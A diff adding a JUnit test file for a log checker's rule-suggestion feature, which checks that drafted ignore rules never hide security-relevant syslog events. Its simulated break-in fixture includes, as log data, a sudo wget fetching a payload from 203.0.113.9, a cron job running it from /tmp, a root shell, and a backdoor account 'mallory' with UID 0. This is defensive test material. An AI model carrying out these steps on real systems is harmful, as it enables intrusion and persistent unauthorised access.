@@ -1,0 +1,217 @@
+package dev.logcheck.ruletest;
+
+import static java.nio.charset.StandardCharsets.ISO_8859_1;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.util.List;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** {@code --suggest} on lines that somebody should read: nothing is silenced unasked. */
+final class ImportantDraftsTest {
+  private static final String BEGIN =
+      "^([[:alpha:]]{3} [ :[:digit:]]{11}|[0-9T:.+-]{32}) [._[:alnum:]-]+ ";
+
+  /** What an administrator does on a quiet day, between the guesses of strangers. */
+  private static final List<String> QUIET_DAY =
+      List.of(
+          "Nov 19 08:00:01 h sshd[101]: Failed password for root from 198.51.100.7 port 4022 ssh2",
+          "Nov 19 08:00:02 h sshd[102]: Failed password for root from 198.51.100.8 port 4023 ssh2",
+          "Nov 19 09:00:01 h sshd[201]: Accepted password for alice from 192.0.2.7 port 22 ssh2",
+          "Nov 19 09:00:01 h sshd[201]: pam_unix(sshd:session): session opened for user"
+              + " alice(uid=1000) by (uid=0)",
+          "Nov 19 09:10:01 h sshd[202]: Accepted password for bob from 192.0.2.9 port 24 ssh2",
+          "Nov 19 09:10:01 h sshd[202]: pam_unix(sshd:session): session opened for user"
+              + " bob(uid=1001) by (uid=0)",
+          "Nov 19 09:01:01 h sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ;"
+              + " COMMAND=/usr/bin/apt update",
+          "Nov 19 09:02:01 h sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ;"
+              + " COMMAND=/usr/sbin/service cron restart",
+          "Nov 19 09:03:01 h su[301]: Successful su for postgres by root",
+          "Nov 19 09:03:01 h su[301]: + pts/0 root:postgres",
+          "Nov 19 09:04:01 h CRON[401]: (root) CMD (/usr/local/bin/backup --daily)",
+          "Nov 19 09:05:01 h CRON[402]: (root) CMD (/usr/local/bin/report -q)",
+          "Nov 19 09:06:01 h useradd[501]: new user: name=carol, UID=1002, GID=1002,"
+              + " home=/home/carol, shell=/bin/bash, from=/dev/pts/0");
+
+  private static final List<String> BREAK_IN =
+      List.of(
+          "Nov 20 03:00:01 h sshd[901]: Accepted password for alice from 203.0.113.9 port 22 ssh2",
+          "Nov 20 03:00:01 h sshd[901]: Accepted password for root from 203.0.113.9 port 22 ssh2",
+          "Nov 20 03:00:01 h sshd[901]: pam_unix(sshd:session): session opened for user"
+              + " alice(uid=1000) by (uid=0)",
+          "Nov 20 03:01:01 h sudo:    alice : TTY=pts/3 ; PWD=/tmp ; USER=root ;"
+              + " COMMAND=/usr/bin/wget http://203.0.113.9/x",
+          "Nov 20 03:01:09 h sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ;"
+              + " COMMAND=/bin/sh",
+          "Nov 20 03:02:01 h su[902]: Successful su for root by alice",
+          "Nov 20 03:02:01 h su[902]: + pts/3 alice:root",
+          "Nov 20 03:03:01 h CRON[903]: (root) CMD (/tmp/x)",
+          "Nov 20 03:04:01 h useradd[904]: new user: name=mallory, UID=0, GID=0, home=/root,"
+              + " shell=/bin/bash, from=/dev/pts/3");
+
+  private final Workbench workbench = new Workbench().rules("/none", "# nothing");
+
+  @Test
+  void theDraftsOfAQuietDaySilenceNothingOfABreakIn() {
+    List<String> drafts = suggest(QUIET_DAY);
+    assertTrue(drafts.stream().anyMatch(line -> line.startsWith("^")), drafts.toString());
+    assertEquals(String.join("\n", BREAK_IN) + "\n", left(drafts, BREAK_IN));
+  }
+
+  @Test
+  void norDoTheDraftsOfTheBreakInItself() {
+    List<String> drafts = suggest(BREAK_IN);
+    assertEquals(String.join("\n", BREAK_IN) + "\n", left(drafts, BREAK_IN));
+  }
+
+  @Test
+  void importantDraftsStandAtTheEndWithTheirReason() {
+    suggest(
+        List.of(
+            "Nov 19 09:00:01 h sshd[1]: Accepted password for alice from 192.0.2.7 port 22 ssh2",
+            "Nov 19 09:00:02 h d: up"));
+    assertEquals(
+        """
+        # 1 rule for 1 of 2 lines. Delete each rule whose lines you want to see in reports.
+
+        %sd: up$
+        # 1 line, e.g. Nov 19 09:00:02 h d: up
+
+        # The rules from here on are commented out, since their lines are important.
+        # To use one all the same, delete the # before its ^.
+
+        #%ssshd\\[[0-9]+\\]: Accepted password for alice from 192\\.0\\.2\\.7 port [0-9]+ ssh[0-9]+$
+        # Important: a log-in that succeeded.
+        # 1 line, e.g. Nov 19 09:00:01 h sshd[1]: Accepted password for alice from 192.0.2.7 port\
+         22 ssh2
+        """
+            .formatted(BEGIN, BEGIN),
+        workbench.out());
+  }
+
+  @Test
+  void aRuleForAnyCommandIsNotEvenDrafted() {
+    List<String> jobs =
+        Stream.of("backup", "report", "tidy", "sync", "count", "rotate")
+            .map(job -> "Nov 19 09:04:01 h CRON[4]: (root) CMD (/usr/local/bin/" + job + " -q)")
+            .toList();
+    List<String> drafts = suggest(jobs);
+    assertFalse(drafts.toString().contains("CMD \\("), drafts.toString());
+    assertEquals(
+        List.of(
+            "# 0 rules for 0 of 6 lines. Delete each rule whose lines you want to see in reports.",
+            "",
+            "# No rule: it would match any command, also an attacker's.",
+            "# 6 lines, e.g. " + jobs.get(0)),
+        drafts);
+  }
+
+  @Test
+  void aCommandThatIsAlwaysTheSameIsDraftedCommentedOut() {
+    List<String> drafts =
+        suggest(
+            List.of(
+                "Nov 19 09:04:01 h CRON[401]: (root) CMD (/usr/local/bin/backup --daily)",
+                "Nov 20 09:04:01 h CRON[411]: (root) CMD (/usr/local/bin/backup --daily)"));
+    assertTrue(
+        drafts.contains(
+            "#" + BEGIN + "CRON\\[[0-9]+\\]: \\(root\\) CMD \\(/usr/local/bin/backup --daily\\)$"),
+        drafts.toString());
+    assertTrue(drafts.contains("# Important: a command that a user or cron ran."));
+  }
+
+  @Test
+  void aDraftForAnyMessageOfAProgramIsTooBroad() {
+    List<String> drafts =
+        suggest(
+            List.of(
+                "Nov 19 09:00:01 h sshd[1]: alpha", "Nov 19 09:00:02 h sshd[1]: bravo charlie"));
+    assertEquals(2, drafts.stream().filter(line -> line.startsWith("^")).count());
+    assertTrue(
+        new Probes(new LineParts(true, 16, "Nov 19 09:00:01 h ", "sshd[1]: ", List.of("alpha")))
+            .importantMatch("^.* sshd\\[1]: [[:alnum:] ./]+$".getBytes(ISO_8859_1))
+            .startsWith("Accepted password for root"));
+  }
+
+  @Test
+  void whatRulesRaiseIsDraftedWithTheDirectoryThatCanDropIt() {
+    workbench
+        .rules("/t/violations.d/alarm", "alarm")
+        .rules("/t/ignore.d.server/d", "^.* d: up$")
+        .log("Nov 19 09:00:01 h d: up", "Nov 19 09:00:02 h d: alarm 7")
+        .call("--suggest", "-l", "/log", "-r", "/t");
+    assertTrue(
+        workbench
+            .out()
+            .contains(
+                "\n#"
+                    + BEGIN
+                    + "d: alarm [0-9]+$\n# Important: reported in Security Events for alarm; only a"
+                    + " rule in violations.ignore.d can drop it.\n"),
+        workbench.out());
+    assertTrue(workbench.out().startsWith("# 0 rules for 0 of 1 line. "), workbench.out());
+  }
+
+  @Test
+  void theRulesOfTheMachineTellWhatIsImportantWhateverRulesAreTried() {
+    workbench
+        .file("/c", "RULEDIR=/t\n")
+        .rules("/t/violations.d/alarm", "alarm")
+        .log("Nov 19 09:00:02 h d: alarm 7")
+        .call("--suggest", "--config", "/c", "-l", "/log", "-r", "/none");
+    assertTrue(workbench.out().contains("# Important: reported in Security Events"));
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "CRON[1]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
+        "CRON(pam_unix)[1]: session opened for user root by (uid=0)",
+        "sshd[1]: pam_unix(sshd:session): session closed for user alice",
+        "sshd[1]: Failed password for alice from 192.0.2.7 port 22 ssh2",
+        "sshd[1]: Connection closed by authenticating user alice 192.0.2.7 port 22 [preauth]",
+        "postfix/smtpd[1]: disconnect from unknown[192.0.2.7] ehlo=1 commands=1",
+        "postfix/smtpd[1]: warning: h[192.0.2.7]: SASL PLAIN authentication failed:"
+            + " (reason unavailable), sasl_username=alice",
+        "systemd[1]: Started Session 3 of User alice."
+      })
+  void routineIsNotImportant(String message) {
+    assertEquals("", Importance.meaning(message));
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "login[1]: pam_unix(login:session): session opened for user alice(uid=1000)",
+        "systemd-logind[1]: New session 3 of user alice.",
+        "dovecot: imap-login: Login: user=<alice>, method=PLAIN",
+        "postfix/smtpd[1]: 4F2: client=h[192.0.2.7], sasl_method=PLAIN, sasl_username=alice",
+        "su: (to root) alice on pts/0",
+        "pkexec[1]: alice: Executing command [USER=root] [COMMAND=/usr/bin/id]",
+        "systemd[1]: Started run-r1.service - /bin/sh -c id.",
+        "passwd[1]: pam_unix(passwd:chauthtok): password changed for alice",
+        "gpasswd[1]: user mallory added by root to group sudo"
+      })
+  void whatSomebodyDidIsImportant(String message) {
+    assertFalse(Importance.meaning(message).isEmpty());
+  }
+
+  private List<String> suggest(List<String> lines) {
+    workbench.log(lines.toArray(String[]::new)).call("--suggest", "-l", "/log", "-r", "/none");
+    return workbench.out().lines().toList();
+  }
+
+  /** What a file of the drafts leaves over of a later log. */
+  private String left(List<String> drafts, List<String> lines) {
+    workbench
+        .log(lines.toArray(String[]::new))
+        .rules("/local-drafts", drafts.toArray(String[]::new))
+        .call("-i", "-q", "-l", "/log", "-r", "/local-drafts");
+    return workbench.out();
+  }
+}
